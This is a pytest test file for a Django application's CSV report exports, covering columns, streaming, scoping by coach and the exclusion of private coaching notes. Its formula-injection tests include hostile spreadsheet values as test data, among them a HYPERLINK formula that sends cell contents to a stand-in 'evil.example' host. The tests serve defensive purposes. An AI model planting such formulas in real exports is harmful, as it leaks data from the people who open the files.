"""CSV exports: streamed, the right columns, safe in a spreadsheet, facts only for coaching."""

from __future__ import annotations

import csv
import datetime
import io
import itertools

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from accounts.csv_export import csv_safe
from action_plans.models import ProgressSignal
from coaching.models import PrivateNote
from reports.exports import EXPORTS
from tests.factories.curriculum import AttendanceFactory, SessionFactory
from tests.queries import assert_stable_queries, assert_stable_queries_each

from .conftest import grow_cohort

pytestmark = pytest.mark.django_db


def download(client, cast, kind):
    response = client.get(reverse("reports:export", args=[cast.cohort.code, kind]))
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1 555", "'+1 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("Ana = Lead", "Ana = Lead"),
        (None, ""),
        (7, "7"),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_roster_columns_and_rows(data, client_for):
    rows = download(client_for("staff"), data, "roster")
    assert rows[0] == [
        "Fellow",
        "Email",
        "State or territory",
        "Agency",
        "Title",
        "Sector",
        "Status",
        "Coach",
        "Withdrawn on",
        "Sponsoring partner",
    ]
    by_name = {r[0]: r for r in rows[1:]}
    assert sorted(by_name) == ["Clara Classmate", "Fiona Fellow", "Pedro Peer", "Will Withdrawn"]
    fiona = by_name["Fiona Fellow"]
    assert fiona[1:4] == ["fellow@example.org", "Hawaii", "Hawaii Medicaid"]
    assert fiona[6:8] == ["Active", "Cora Coach"]
    assert by_name["Pedro Peer"][7] == ""
    assert by_name["Will Withdrawn"][6:] == ["Withdrawn", "", "2026-10-01", ""]


def test_formula_in_a_name_is_neutralised(data, client_for):
    fellow = data.fellow
    fellow.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    fellow.save()
    data.enrollments["fellow"].agency = "@SUM(1+1)"
    data.enrollments["fellow"].save()
    for kind in EXPORTS:
        rows = download(client_for("staff"), data, kind)
        names = [r[0] for r in rows[1:]]
        assert "'" + fellow.full_name in names, kind
        assert fellow.full_name not in names, kind
    roster = download(client_for("staff"), data, "roster")
    assert "'@SUM(1+1)" in [r[3] for r in roster]


def test_attendance_export(data, client_for):
    rows = download(client_for("staff"), data, "attendance")
    assert rows[0] == [
        "Fellow",
        "Email",
        "Session",
        "Kind",
        "Starts (UTC)",
        "Ends (UTC)",
        "Day (cohort's calendar)",
        "Attendance",
    ]
    assert len(rows) == 1 + 10  # ten marks recorded
    assert [
        "Fiona Fellow",
        "fellow@example.org",
        "October session",
        "Monthly online session",
        "2026-10-15 17:00",
        "2026-10-15 18:30",
        "2026-10-15",
        "Absent",
    ] in rows


def test_attendance_export_gives_each_day_of_a_two_day_gathering(data, client_for):
    """Thursday 9:00 to Friday 16:00 in New York: one row per day, each with its own date."""
    gathering = SessionFactory(
        cohort=data.cohort,
        title="Final gathering",
        starts_at=datetime.datetime(2026, 10, 22, 13, tzinfo=datetime.UTC),
        ends_at=datetime.datetime(2026, 10, 23, 20, tzinfo=datetime.UTC),
    )
    enrollment = data.enrollments["fellow"]
    AttendanceFactory(session=gathering, enrollment=enrollment, day_number=1, status="present")
    AttendanceFactory(session=gathering, enrollment=enrollment, day_number=2, status="absent")
    rows = download(client_for("staff"), data, "attendance")
    days = [(r[6], r[7]) for r in rows if r[2] == "Final gathering"]
    assert days == [("2026-10-22", "Present"), ("2026-10-23", "Absent")]
    assert {r[5] for r in rows if r[2] == "Final gathering"} == {"2026-10-23 20:00"}


def test_coaching_hours_export_has_facts_and_never_notes(data, client_for):
    from coaching.models import CoachingSession

    session = CoachingSession.objects.filter(enrollment=data.enrollments["fellow"]).first()
    clara_session = CoachingSession.objects.get(enrollment=data.enrollments["classmate"])
    clara_session.competencies.add(data.rep.competencies[2], data.rep.competencies[0])
    PrivateNote.objects.create(session=session, author=data.coach, body="PRIVATE-NOTE-TEXT")
    CoachingSession.objects.update(shared_summary="SHARED-SUMMARY-TEXT")
    response = client_for("staff").get(
        reverse("reports:export", args=[data.cohort.code, "coaching-hours"])
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "PRIVATE-NOTE-TEXT" not in text
    assert "SHARED-SUMMARY-TEXT" not in text
    assert "Stakeholder mapping" not in text  # topics are free text: coaching keeps them
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [
        "Fellow",
        "Email",
        "Coach",
        "Starts (UTC)",
        "Duration (minutes)",
        "Hours",
        "Mode",
        "Status",
        "Counts against entitlement",
        "Competencies",
    ]
    assert len(rows) == 1 + 5
    clara = [r for r in rows if r[0] == "Clara Classmate"]
    assert clara == [
        [
            "Clara Classmate",
            "classmate@example.org",
            "Otto Othercoach",
            "2026-10-01 17:00",
            "90",
            "1.50",
            "Video call",
            "Completed",
            "yes",
            "Competency 1.1; Competency 2.1",
        ]
    ]


def test_plan_progress_export(data, client_for):
    rows = download(client_for("staff"), data, "plan-progress")
    assert rows[0] == [
        "Fellow",
        "Email",
        "Plan",
        "Plan status",
        "Focus levels",
        "Milestones",
        "Done",
        "On track",
        "Overdue",
        "Last update",
        "Last signal",
    ]
    fiona = next(r for r in rows if r[0] == "Fiona Fellow")
    assert fiona[3:] == [
        "Approved",
        "Community; Societal",
        "3",
        "1",
        "1",
        "1",
        "2026-11-25",
        "On track",
    ]
    assert [r[0] for r in rows[1:]] == ["Clara Classmate", "Fiona Fellow", "Pedro Peer"]


def test_self_assessment_export(data, client_for):
    rows = download(client_for("staff"), data, "self-assessments")
    assert rows[0] == [
        "Fellow",
        "Email",
        "Phase",
        "Submitted (UTC)",
        "Domain",
        "Competency",
        "Level",
        "Level label",
    ]
    assert len(rows) == 1 + 12  # three assessments of four competencies
    assert rows[1] == [
        "Fiona Fellow",
        "fellow@example.org",
        "Baseline",
        "2026-09-15 12:00",
        "Domain 1",
        "Competency 1.1",
        "2",
        "Developing",
    ]


def test_a_coach_exports_their_own_fellows_only(data, client_for):
    client = client_for("coach")
    for kind in EXPORTS:
        rows = download(client, data, kind)
        assert {r[0] for r in rows[1:]} == {"Fiona Fellow"}, kind


@pytest.mark.parametrize("kind", list(EXPORTS))
def test_export_queries_do_not_grow(data, client_for, kind):
    client = client_for("staff")
    url = reverse("reports:export", args=[data.cohort.code, kind])

    def fetch():
        response = client.get(url)
        b"".join(response.streaming_content)
        return response

    assert_stable_queries(fetch, lambda n: grow_cohort(data, n))


def _bulk_rows(data, n):
    """n more fellows (each coached by Cora Coach, with a plan, a session on one competency, a
    self-assessment of every competency and a mark at every session), written in bulk so that
    the exports go well past the batch size a chunked read with a prefetch would take."""
    from accounts.models import User
    from action_plans.models import ActionPlan
    from coaching.models import CoachAssignment, CoachingSession
    from cohorts.models import Enrollment, EnrollmentStatus
    from curriculum.models import Attendance, Rating, SelfAssessment

    start = next(_bulk_counter) * 10_000
    users = User.objects.bulk_create(
        User(email=f"bulk{start + i}@example.org", full_name=f"Bulk {start + i}") for i in range(n)
    )
    enrollments = Enrollment.objects.bulk_create(
        Enrollment(
            cohort=data.cohort, user=u, state="NY", agency="Bulk", status=EnrollmentStatus.ACTIVE
        )
        for u in users
    )
    ActionPlan.objects.bulk_create(
        ActionPlan(enrollment=e, title=f"Bulk plan {e.pk}") for e in enrollments
    )
    CoachAssignment.objects.bulk_create(
        CoachAssignment(coach=data.coach, enrollment=e, started_at=frozen_now())
        for e in enrollments
    )
    sessions = CoachingSession.objects.bulk_create(
        CoachingSession(enrollment=e, coach=data.coach, starts_at=frozen_now()) for e in enrollments
    )
    competency = data.rep.competencies[0]
    CoachingSession.competencies.through.objects.bulk_create(
        CoachingSession.competencies.through(coachingsession=s, competency=competency)
        for s in sessions
    )
    assessments = SelfAssessment.objects.bulk_create(
        SelfAssessment(window=data.rep.baseline, enrollment=e, submitted_at=frozen_now())
        for e in enrollments
    )
    level = data.rep.baseline.cohort.framework.levels.first()
    Rating.objects.bulk_create(
        Rating(assessment=a, competency=c, level=level)
        for a in assessments
        for c in data.rep.competencies
    )
    Attendance.objects.bulk_create(
        Attendance(session=s, enrollment=e, status="present")
        for s in data.rep.sessions
        for e in enrollments
    )


_bulk_counter = itertools.count()


def frozen_now():
    from django.utils import timezone

    return timezone.now()


def test_exports_read_in_one_pass_past_any_batch_size(data, client_for):
    """Every export, as the staff and as the coach, and the coaching-hours export: the same
    number of queries before and after 2,070 more fellows (every file gains more rows than a
    chunked read takes at a time). The data grows once for all of them."""

    def fetcher(client, url):
        def fetch():
            response = client.get(url)
            b"".join(response.streaming_content)
            return response

        return fetch

    fetches = {
        f"{kind} as {role}": fetcher(
            client_for(role), reverse("reports:export", args=[data.cohort.code, kind])
        )
        for kind in EXPORTS
        for role in ("staff", "coach")
    }
    fetches["coaching hours as staff"] = fetcher(
        client_for("staff"), reverse("coaching:export_hours", args=[data.cohort.code])
    )
    assert_stable_queries_each(fetches, lambda n: _bulk_rows(data, 230 * n))


def test_every_csv_export_starts_with_a_utf8_bom_unless_turned_off(settings, db):
    from accounts.csv_export import csv_download

    def body(**kwargs):
        response = csv_download("x.csv", ["Name"], [["Quiñones"]], **kwargs)
        return b"".join(response.streaming_content)

    assert body() == "\ufeffName\r\nQuiñones\r\n".encode()
    assert body(bom=False) == "Name\r\nQuiñones\r\n".encode()
    settings.CSV_EXPORT_BOM = False
    assert body() == b"Name\r\nQui\xc3\xb1ones\r\n"


def test_a_long_export_is_sent_in_pieces_of_many_rows(db):
    """Not one piece per row (a write each for the server), nor the whole file at once."""
    from accounts.csv_export import csv_download

    response = csv_download("x.csv", ["N"], ([i] for i in range(20_000)), bom=False)
    pieces = list(response.streaming_content)
    assert 1 < len(pieces) < 100
    lines = b"".join(pieces).decode().splitlines()
    assert lines == ["N", *(str(i) for i in range(20_000))]


@pytest.mark.parametrize("role", ["staff", "coach"])
def test_plan_progress_export_matches_the_staff_plan_table(data, client_for, role):
    """The export reads rows rather than plans, yet says what the staff's plan table (model
    objects) says of the same plans: same plans, order, labels and figures."""
    from reports.access import get_cohort_scope
    from reports.metrics import plan_list

    coach = data.coach if role == "coach" else None
    grow_cohort(data, 4, coach=coach)
    user = data.coach if role == "coach" else data.staff
    scope = get_cohort_scope(user, data.cohort.code)
    expected = [
        [
            p.enrollment.user.full_name,
            p.enrollment.user.email,
            p.title,
            p.get_status_display(),
            "; ".join(p.focus_level_labels()),
            str(p.progress.total),
            str(p.progress.done),
            str(p.progress.total - p.progress.done - p.progress.overdue),
            str(p.progress.overdue),
            p.last_update_on.isoformat() if p.last_update_on else "",
            ProgressSignal(p.last_signal).label if p.last_signal else "",
        ]
        for p in plan_list(scope, data.cohort.local_date())
    ]
    rows = download(client_for(role), data, "plan-progress")[1:]
    assert len(rows) > 1
    assert any(r[4] and r[5] != "0" and r[9] for r in rows)  # levels, milestones, updates
    assert sorted(rows) == sorted(expected)
    assert [r[0] for r in rows] == [r[0] for r in expected]
